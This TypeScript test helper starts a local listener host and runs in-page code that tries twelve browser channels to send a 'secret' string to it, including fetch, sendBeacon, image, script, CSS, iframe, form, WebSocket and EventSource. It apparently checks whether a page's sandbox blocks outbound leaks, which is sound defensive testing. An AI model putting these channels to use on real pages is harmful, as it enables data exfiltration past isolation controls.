// Ways in which a page could send a text to another host, and a host that notes what arrives.
import { createServer } from 'node:http';

export interface Listener {
  url: string;
  /** Method, path and body of each request, and each socket that was asked for. */
  received: string[];
  close: () => Promise<void>;
}

/** A second host, on a free port of this machine. It says yes to everything, so that only the page can hold back. */
export async function listen(page = ''): Promise<Listener> {
  const received: string[] = [];
  const server = createServer((request, response) => {
    if (request.url === '/page') {
      response.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><title>Control</title>${page}`);
      return;
    }
    if (request.url !== '/favicon.ico') received.push(`${request.method} ${request.url}`);
    request.resume();
    response.writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }).end('ok');
  });
  server.on('upgrade', (request, socket) => {
    received.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('The listener has no port.');
  return {
    url: `http://127.0.0.1:${address.port}`,
    received,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** The names of the ways that `tryEscapes` tries. Each asks for a path of that name. */
export const ESCAPES = [
  'fetch',
  'post',
  'xhr',
  'beacon',
  'image',
  'script',
  'style',
  'css',
  'frame',
  'form',
  'socket',
  'events',
];

/** Runs in the page. Tries each way once and gives the browser time to send. */
export async function tryEscapes(url: string): Promise<void> {
  const attempt = (way: () => unknown) => {
    try {
      way();
    } catch {
      // Blocked at once: what counts is what the other host receives.
    }
  };
  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const quietly = (promise: Promise<unknown>) => promise.catch(() => undefined);
  attempt(() => quietly(fetch(`${url}/fetch`)));
  attempt(() => quietly(fetch(`${url}/post`, { method: 'POST', mode: 'no-cors', body: 'secret' })));
  attempt(() => {
    const request = new XMLHttpRequest();
    request.open('GET', `${url}/xhr`);
    request.send();
  });
  attempt(() => navigator.sendBeacon(`${url}/beacon`, 'secret'));
  attempt(() => add('img', { src: `${url}/image` }));
  attempt(() => add('script', { src: `${url}/script` }));
  attempt(() => add('link', { rel: 'stylesheet', href: `${url}/style` }));
  attempt(() => add('p', { style: `background-image: url(${url}/css); height: 9px` }));
  attempt(() => add('iframe', { src: `${url}/frame` }));
  attempt(() => new WebSocket(`${url.replace('http', 'ws')}/socket`));
  attempt(() => new EventSource(`${url}/events`));
  attempt(() => {
    add('iframe', { name: 'form-target' });
    const form = add('form', { action: `${url}/form`, target: 'form-target', method: 'post' });
    if (form instanceof HTMLFormElement) form.submit();
  });
  await new Promise((resolve) => setTimeout(resolve, 700));
}
